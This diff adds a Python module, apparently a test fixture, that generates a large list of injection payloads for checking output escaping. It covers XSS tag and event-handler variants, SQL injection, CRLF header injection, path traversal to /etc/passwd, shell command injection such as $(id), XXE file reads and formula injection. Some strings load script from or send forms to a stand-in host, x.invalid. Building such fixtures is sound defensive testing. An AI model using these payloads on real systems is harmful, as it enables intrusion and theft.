@@ -1,0 +1,48 @@
+"""Strings that become markup, script, SQL, headers or paths where text is not kept as text."""
+
+SCRIPTS = ["alert(1)", "window.ran=1", "top['al'+'ert'](1)", "eval('alert(1)')", "prompt`1`"]
+SHAPES = [
+    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//x.invalid/x.js></script>{}",
+    "\"><script>{}</script>", "'><script>{}</script>", "</title><script>{}</script>",
+    "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>",
+    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "\"><img src=x onerror={}>",
+    "'><img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
+    "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>", "<a href=\"java\tscript:{}\">x</a>",
+    "<form action=javascript:{}><button>x", "<button formaction=javascript:{}>x",
+    "<input autofocus onfocus={}>", "\" autofocus onfocus={} x=\"", "' autofocus onfocus={} x='",
+    "\" onmouseover={} \"", "<details open ontoggle={}>", "<video><source onerror={}>",
+    "<audio src=x onerror={}>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
+    "<math><mtext><script>{}</script>", "<marquee onstart={}>", "<select autofocus onfocus={}>",
+    "<textarea autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<base href=javascript:{}//>",
+    "<link rel=stylesheet href=data:,*{{x:expression({})}}>", "<meta http-equiv=refresh content=0;url=javascript:{}>",
+    "<style>@import 'javascript:{}';</style>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
+    "<template><script>{}</script></template>", "<xss style=animation-name:x onanimationend={}>",
+    "javascript:{}", "data:text/html,<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}",
+    "+ADw-script+AD4-{}+ADw-/script+AD4-", "<<script>{}//<</script>", "<scr\u0000ipt>{}</script>",
+    "<scr<script>ipt>{}</script>", "<!--<img src=\"--><img src=x onerror={}//\">", "{{{{{}}}}}", "${{{}}}", "#{{{}}}",
+    "`{}`", "';{};//", "\";{};//", "\\';{};//", "</script><script>{}</script>", "]]><script>{}</script>",
+    "<?xml version=\"1.0\"?><script>{}</script>", "<![CDATA[<script>{}</script>]]>",
+    "\u2028{}\u2029", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "<img src=`x`onerror={}>",
+    "<img/src=x/onerror={}>", "<img\tsrc=x\nonerror={}>", "<a\u00a0onclick={}>x</a>", "x\" style=\"x:{}",
+    "<p id=main onclick={}>", "<input type=image src=x onerror={}>", "<isindex action=javascript:{}>",
+    "<table background=javascript:{}>", "<div style=width:expression({})>", "<applet code={}>",
+    "<frameset onload={}>", "<dialog open onclose={}>", "<x contenteditable onblur={}>",
+    "<use href=data:image/svg+xml,<svg onload={}>>", "<image src=x onerror={}>", "<script>{}",
+    "<script\n>{}</script\n>", "<script/x>{}</script>", "<script x=\">\">{}</script>",
+]
+OTHERS = [
+    "' OR '1'='1", "'; DROP TABLE account; --", "1; DELETE FROM audit", "\" OR \"\"=\"", "') OR ('1'='1",
+    "admin'--", "' UNION SELECT password FROM account --", "1' AND SLEEP(5)--", "%00", "a\u0000b",
+    "a\r\nSet-Cookie: sid=x", "a%0d%0aLocation: https://x.invalid", "\r\n\r\n<html>", "../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd", "C:\\Windows\\win.ini", "//x.invalid", "https://x.invalid", "\\\\x.invalid",
+    "; ls -la", "$(id)", "`id`", "| cat /etc/passwd", "&& id", "*)(uid=*", "{\"$ne\": null}",
+    "=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "%s%s%s%n", "{0}", "%p", "NaN", "Infinity", "-1",
+    "9223372036854775808", "0x7fffffff", "1e309", "null", "undefined", "true", "\u202eesrever",
+    "\u200b", "\ufeff", "\U0001f9e0" * 20, "\u0301" * 200, "a" * 5000, "\ud7ff", "\uffff", "Z\u0351\u036b\u0343",
+    "<b>bold</b>", "<h1>heading</h1>", "&amp;", "&nbsp;", "&#x41;", "\"", "'", "<", ">", "&", "\\", "/", "`",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<!DOCTYPE html>", "<plaintext>", "<xmp>", "<title>", "</main>",
+    "</form><form action=//x.invalid>", "<input name=form-token value=x>", "<base href=//x.invalid>",
+]
+PAYLOADS = sorted({shape.format(script) for shape in SHAPES for script in SCRIPTS} | set(OTHERS))
